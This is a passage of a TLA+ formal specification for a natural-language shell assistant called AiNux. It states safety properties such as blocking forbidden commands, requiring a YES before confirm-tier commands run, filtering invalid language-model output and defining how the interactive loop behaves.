        /\ Len(spawned') <= 1 ]_vars

\* Forbidden is more severe than "confirm", "confirm" more than safe.
Severity(v) == CASE v = PyFalse -> 2 [] v = Confirm -> 1 [] OTHER -> 0

\* C13: a command d combined with another command (piped, sequenced,
\* conjoined) or with a redirection is classified at least as severely as d
\* alone.
C13_CombinedAtLeastAsSevere ==
    (verdict2 # "" /\ arg2 \in Combined(arg)) =>
        Severity(verdict2) >= Severity(verdict)

\* C14 as stated: the verdict is the same for a command, its upper-case
\* form, its lower-case form and the command with a blank at either end.
C14_CaseAndBlanksInvariant ==
    (verdict2 # "" /\ arg2 \in Variants(arg)) => verdict2 = verdict

\* C14 amended: the verdict is the same for a command, its lower-case form
\* and the command with a blank at either end; it is the same for the
\* upper-case form when lower-casing that form gives the lower-case form of
\* the command, as it does for every ASCII command.
C14_NormalisedInvariant ==
    (verdict2 # "" /\ arg2 \in Variants(arg)) =>
        /\ arg2 \in { lower(arg), " " \o arg \o " " } => verdict2 = verdict
        /\ (arg2 = upper(arg) /\ lower(upper(arg)) = lower(arg)) =>
              verdict2 = verdict

C14_Witness ==
    /\ arg = "chown -R bob ."
    /\ arg2 = "CHOWN -R BOB ."
    /\ verdict = Confirm
    /\ verdict2 = Confirm

\* C15: the string passed to subprocess.run and the 'command' field of the
\* dictionary returned are the argument of execute_command, letter case and
\* whitespace untouched, whether the call was blocked, cancelled, completed,
\* timed out or failed to start.
C15_CommandPassedVerbatim ==
    /\ \A i \in DOMAIN spawned : spawned[i] = command
    /\ \A r \in result : r.command = command
    /\ pc \in { "Blocked", "Cancelled", "Completed", "TimedOut", "SpawnFailed" } =>
          result # {}

C15_Witness ==
    /\ pc = "Completed"
    /\ command = " RM REPORT.TXT "
    /\ safety = Confirm
    /\ spawned = << " RM REPORT.TXT " >>
    /\ \E r \in result : r.command = " RM REPORT.TXT "

KnownPlatforms == { "windows", "linux", "darwin" }

\* C17: the platform lookup is total: list_files resolves to "ls -la" on
\* linux and darwin and to "dir" on windows, in both classes; an intent key
\* that is not in the table, or a platform that has no table, yields None;
\* the lookup always yields a command or None.
C17_TotalLookup ==
    (resolved # <<>> /\ resolved[1].op = "lookup") =>
        LET r == resolved[1]
            table == Mappings(r.class)
        IN  /\ Cardinality(r.value) <= 1
            /\ (r.input = "list_files" /\ platform \in { "linux", "darwin" }) =>
                  r.value = { "ls -la" }
            /\ (r.input = "list_files" /\ platform = "windows") =>
                  r.value = { "dir" }
            /\ platform \notin KnownPlatforms => r.value = {}
            /\ r.input = "nonexistent_intent" => r.value = {}
            /\ (platform \in KnownPlatforms /\ r.input \notin DOMAIN table[platform]) =>
                  r.value = {}
            /\ (platform \in KnownPlatforms /\ r.input \in DOMAIN table[platform]) =>
                  r.value = { table[platform][r.input] }

C17_Witness ==
    /\ platform = "freebsd"
    /\ resolved = << [ op |-> "lookup", class |-> "AiNuxLLM",
                       input |-> "list_files", value |-> {} ] >>

\* C18: on a platform that has no table of commands, the regex-based
\* resolution of either class returns None for every request.
C18_UnknownPlatformResolvesNothing ==
    (resolved # <<>> /\ resolved[1].op = "parse" /\ platform \notin KnownPlatforms) =>
        resolved[1].value = {}

Falsy(v) == v = PyFalse

\* C20: every command of the security test gets a falsy verdict from
\* is_command_safe, on an object built with use_llm = True as on one built
\* with use_llm = False, so that the test reports it as blocked.
C20_TestCommandsBlocked ==
    (Checked /\ arg \in test_dangerous_commands) => Falsy(verdict)

----------------------------------------------------------------------------
(* The base class *)

\* C21: in the base class a command that contains, in any letter case, an
\* entry of dangerous_commands or of the keyword list is rejected by
\* is_command_safe, and execute_command returns the blocked dictionary for it
\* without ever passing it to the shell.
C21_BaseBlocksDangerous ==
    (InCall /\ matches.forbidden) =>
        /\ safety = PyFalse
        /\ pc \in { "Classified", "Blocked" }
        /\ spawned = <<>>
        /\ shell = "none"
        /\ pc = "Blocked" => result = { BlockedResult(command) }

C21_Witness ==
    /\ pc = "Blocked"
    /\ command = " HALT"
    /\ result = { BlockedResult(" HALT") }

\* C23: AiNuxLLM.execute_command never passes to the shell a command that
\* contains an entry of the list _load_dangerous_commands returns.
C23_ListedNeverRuns ==
    (InCall /\ ContainsListed(command)) => spawned = <<>>

----------------------------------------------------------------------------
(* The language model *)

\* parse_natural_language has returned after asking the service.
ParsedWithLLM ==
    /\ resolved # <<>>
    /\ resolved[1].op = "parse_natural_language"
    /\ gen.at = "Done"
    /\ gen.by = "parse"

C25_NoServiceMeansRegexOnly ==
    ~UsesLLM =>
        /\ ~use_llm
        /\ gen.calls = 0
        /\ gen.at \in { "Idle", "Returned", "Done" }
        /\ gen.ret = {}
        /\ (resolved # <<>> /\ resolved[1].op = "parse_natural_language") =>
               /\ resolved[1].value = resolved[1].regex
               /\ gen = NoGen

C25_Witness ==
    /\ llm = "unavailable"
    /\ gen = NoGen
    /\ resolved # <<>>
    /\ resolved[1].op = "parse_natural_language"
    /\ resolved[1].value = { "df -h" }

\* generate_command has returned on a GeminiLLM that is available.
GenReturned == gen.at \in { "Returned", "Done" } /\ llm = "available"

InvalidMarkers == { invalid_responses[i] : i \in DOMAIN invalid_responses }

\* C27: generate_command never returns one of the invalid-response markers,
\* in any letter case, and _extract_command returns None or a non-empty
\* command of at most 200 characters.
C27_NoInvalidMarkerReturned ==
    /\ \A c \in gen.ret : lower(c) \notin InvalidMarkers
    /\ \A c \in gen.command : c # "" /\ Len(c) <= MaxCommandLength

----------------------------------------------------------------------------
(* The interactive loop *)

\* C22: in the interactive loop a command reaches the shell only inside the
\* execute_command call made for the candidate of the current input, whether
\* the candidate came from the language model or from the regex rules and
\* whether the input was typed or spoken; a command of the forbidden tier is
\* never passed to the shell, and one of the confirm tier only after an
\* affirmative answer in the same call.
C22_LoopClassifiesFirst ==
    (loop.at # "Off" /\ (spawned # <<>> \/ shell # "none")) =>
        /\ loop.at = "Executing"
        /\ loop.candidate = { command }
        /\ spawned = << command >>
        /\ ~matches.forbidden
        /\ safety # PyFalse
        /\ matches.confirmable =>
              /\ asked = 1
              /\ response # <<>>
              /\ upper(strip(response[1])) = "YES"

C22_Witness ==
    /\ loop.class = "AiNuxLLM"
    /\ loop.event = "heard"
    /\ gen.by = "loop"
    /\ gen.ret = { "rm report.txt" }
    /\ spawned = << "rm report.txt" >>

\* What the loop does for exit tokens, empty input, help tokens and
\* unrecognised requests, and how often it executes.
LoopTokensHandled ==
    loop.last # <<>> =>
        LET u == loop.last[1]
        IN  /\ lower(u) \in ExitTokens =>
                  /\ loop.at = "Ended"
                  /\ loop.how = "exit"
                  /\ ~loop.parsed
                  /\ loop.executions = 0
            /\ (u = "" \/ lower(u) \in HelpTokens) =>
                  /\ ~loop.parsed
                  /\ loop.executions = 0
                  /\ pc = "Idle"
            /\ (loop.parsed /\ loop.at # "Parsing" /\ loop.candidate = {}) =>
                  /\ loop.executions = 0
                  /\ pc = "Idle"
            /\ loop.executions <= 1
            /\ pc # "Idle" =>
                  /\ loop.at = "Executing"
                  /\ loop.parsed
                  /\ loop.executions = 1
                  /\ loop.candidate = { command }

\* The input of the current iteration is neither an exit token, nor empty,
\* nor a help token.
OtherInput ==
    /\ loop.last # <<>>
    /\ loop.last[1] # ""
    /\ lower(loop.last[1]) \notin (ExitTokens \cup HelpTokens)

\* The input of the current iteration is a mode token given to AiNuxLLM.
ModeInput ==
    /\ loop.last # <<>>
    /\ loop.class = "AiNuxLLM"
    /\ lower(loop.last[1]) \in ModeTokens

\* C28: an exit token, in any letter case, ends the loop; that token, an
\* empty input, a help token and a request parse_natural_language does not
\* recognise never lead to execute_command; every other input is handed to
\* parse_natural_language and executed at most once.
C28_EveryOtherInputIsParsed ==
    /\ LoopTokensHandled
    /\ OtherInput => loop.parsed

\* C28 amended: as C28, except that AiNuxLLM answers the tokens 'mode', 'info'
\* and 'status' with its mode information: they are not handed to
\* parse_natural_language and lead to no execution.
C28_EveryOtherInputButModeIsParsed ==
    /\ LoopTokensHandled
    /\ (OtherInput /\ ~ModeInput) => loop.parsed
    /\ ModeInput => (~loop.parsed /\ loop.executions = 0 /\ loop.at # "Executing")

C28_Witness ==
    /\ loop.class = "AiNuxLLM"
    /\ loop.last = << "Mode" >>
    /\ loop.at = "Prompt"
    /\ ~loop.parsed

\* C30: the loop ends only on an exit token or a KeyboardInterrupt; a failure
\* of input, of execution or of voice capture leaves it running, and after a
\* failed voice capture it asks at the text prompt.
C30_VoiceFailureFallsBackToText ==
    /\ loop.at = "Ended" => loop.how \in { "exit", "KeyboardInterrupt" }
    /\ loop.event \in { "input_failed", "execute_raised" } => loop.at = "Prompt"
    /\ loop.event \in { "voice_failed", "import_failed" } => loop.at = "TextFallback"

----------------------------------------------------------------------------
(* The parser of the base class *)

\* The help examples about directories: the intent each one names and the
\* name it gives, if any.
DirectoryExamples ==
    { [ input |-> "Create directory myproject", intent |-> "create_directory",
        name |-> << "myproject" >> ],
      [ input |-> "Change directory to Documents", intent |-> "change_directory",
        name |-> << "documents" >> ],
      [ input |-> "Go to directory myproject", intent |-> "change_directory",
        name |-> << "myproject" >> ],
      [ input |-> "Show current working directory", intent |-> "current_directory",
        name |-> << >> ] }

\* The command of an example: the intent's command on this platform, followed
\* by the name when the example gives one.
ExampleCommand(e) ==
    LET base_command == The(Get(AiNux_command_mappings, e.intent))
    IN  IF e.name = << >> THEN base_command
        ELSE base_command \o " " \o e.name[1]

\* C29: AiNux.parse_natural_language resolves the directory examples of the
\* help text to the command of their own intent ('mkdir myproject', the cd
\* command with the name, the current_directory command), not to the command
\* of another intent.
C29_DirectoryExamplesResolveToTheirIntent ==
    \A e \in DirectoryExamples :
        ( /\ resolved # << >>
          /\ resolved[1].op = "parse"
          /\ resolved[1].class = "AiNux"
          /\ resolved[1].input = e.input
          /\ Get(AiNux_command_mappings, e.intent) # {} )
        => resolved[1].value = { ExampleCommand(e) }

=============================================================================
